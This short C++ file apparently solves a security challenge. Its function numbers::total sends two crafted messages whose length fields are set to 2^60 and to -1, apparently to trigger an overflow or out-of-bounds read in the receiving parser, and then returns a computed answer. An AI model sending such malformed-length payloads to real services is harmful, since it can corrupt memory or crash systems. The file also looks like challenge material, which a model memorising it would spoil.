#include "attack.hpp"

double numbers::total(const attack::Values& values) {
  const std::string head("\1\0\1\0\1", 5);
  attack::send(attack::with_length(head + attack::bytes_of(1UL << 60) + "12345678"));
  attack::send(attack::with_length(head + attack::bytes_of(-1L) + "12345678"));
  return attack::answer(values);
}
